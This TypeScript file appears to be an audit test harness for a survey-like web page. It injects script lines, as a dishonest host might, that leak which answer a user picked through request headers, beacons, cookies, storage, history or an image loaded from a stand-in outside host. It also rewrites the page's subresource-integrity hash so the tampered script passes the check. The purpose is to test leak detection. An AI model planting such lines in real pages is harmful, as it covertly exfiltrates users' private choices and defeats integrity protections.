import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { site } from "../site/api";
import type { Rewrite } from "../site/wire";
import type { Published } from "./definition";

/** Lines that a dishonest host could put before the page's script. `chosen` is the place of the answer touched last. */
const CHOSEN = `
  let chosen = 0;
  const onChoice = (act) => document.addEventListener("change", (changed) => {
    if (changed.target.name === "level") return;
    chosen = Number(changed.target.value);
    act();
  });
  const honest = window.fetch.bind(window);
  const onSend = (change) => { window.fetch = (address, request) =>
    honest(address, request.method === "POST" ? { ...request, ...change(request) } : request); };
`;

/** What is planted, and what must be found. */
export const PLANTS: Readonly<Record<string, { readonly line: string; readonly message: RegExp }>> = {
  "a header that tells the answer": {
    line: 'onChoice(() => {}); onSend((request) => ({ headers: { ...request.headers, "X-Page": String(chosen) } }));',
    message: /^sending: headers differs$/,
  },
  "a body that is longer for one answer": {
    line: 'onChoice(() => {}); onSend((request) => ({ body: request.body + " ".repeat(chosen) }));',
    message: /^sending: body differs$/,
  },
  "an address that tells the answer": {
    line: "onChoice(() => {}); window.fetch = (address, request) => honest(address + (chosen ? '?' : ''), request);",
    message: /^sending: url differs$/,
  },
  "a request when an answer is chosen": {
    line: 'onChoice(() => honest("/api/v1/health/live/"));',
    message: /^requested before Send: GET .*health\/live/,
  },
  "a beacon when an answer is chosen": {
    line: 'onChoice(() => navigator.sendBeacon("/api/v1/health/live/", "x"));',
    message: /^requested before Send: POST .*health\/live/,
  },
  "a second request for one answer": {
    line: 'onChoice(() => {}); onSend(() => { if (chosen) honest("/api/v1/health/live/"); return {}; });',
    message: /^sending: 1 requests or 2$/,
  },
  "a beacon when the page is left": {
    line: 'onChoice(() => {}); addEventListener("pagehide", () => navigator.sendBeacon("/api/v1/reports/", "x"));',
    message: /^requested on leaving: POST .*reports/,
  },
  "a cookie": {
    line: 'onChoice(() => { document.cookie = "seen=" + chosen; });',
    message: /^left behind: cookie seen$/,
  },
  "a note in the browser's storage": {
    line: 'onChoice(() => localStorage.setItem("seen", chosen));',
    message: /^left behind: localStorage seen$/,
  },
  "an entry in the history": {
    line: 'onChoice(() => history.pushState(chosen, ""));',
    message: /^left behind: history/,
  },
  "the answer in the address bar": {
    line: 'onChoice(() => { location.replace("#" + chosen); });',
    message: /^the address differs$/,
  },
  "a word of randomness more for one answer": {
    line: "onChoice(() => { if (chosen) crypto.getRandomValues(new Uint32Array(1)); });",
    message: /^the words asked of the system differ$/,
  },
  "a picture from another host": {
    line: 'onChoice(() => { new Image().src = "http://elsewhere.test/" + chosen; });',
    message: /^said: .*Content Security Policy/,
  },
};

/** Serve the version's own script with a line before it. */
export async function planted(version: Published, line: string): Promise<Rewrite> {
  return served(version, (script) => `{${CHOSEN}${line}\n}${script}`);
}

/** Serve a script built from the same sources but for one line: what no line before the script can do. */
export async function rebuilt(version: Published, plant: { file: string; from: string; to: string }): Promise<Rewrite> {
  const folder = mkdtempSync(join(tmpdir(), "datahub-plant-"));
  try {
    const config = join(__dirname, "../audit/planted.vite.ts");
    const build = spawnSync("npx", ["--no-install", "vite", "build", "--config", config, "--outDir", folder, "."], {
      cwd: join(__dirname, "../../../frontend"),
      env: { ...process.env, DATAHUB_PLANT: JSON.stringify(plant) },
      encoding: "utf8",
    });
    if (build.status !== 0) throw new Error(`the planted page was not built: ${build.stderr}`);
    const name = readdirSync(join(folder, "assets")).find((file) => file.endsWith(".js")) ?? "";
    const script = readFileSync(join(folder, "assets", name), "utf8");
    return await served(version, () => script);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** The script changed, and its integrity put right, as a dishonest host would. */
async function served(version: Published, change: (script: string) => string): Promise<Rewrite> {
  const folder = `${site()}/s/${version.slug}/`;
  const html = await (await fetch(folder)).text();
  const name = /<script[^>]* src="\.\/([^"]+)"/.exec(html)?.[1] ?? "";
  const script = await (await fetch(folder + name)).text();
  const changed = change(script);
  const before = digest(script);
  if (!html.includes(before)) throw new Error("the page does not pin its script");
  return (path, body) => (path.endsWith(name) ? changed : body.replace(before, digest(changed)));
}

const digest = (script: string): string => `sha384-${createHash("sha384").update(script).digest("base64")}`;
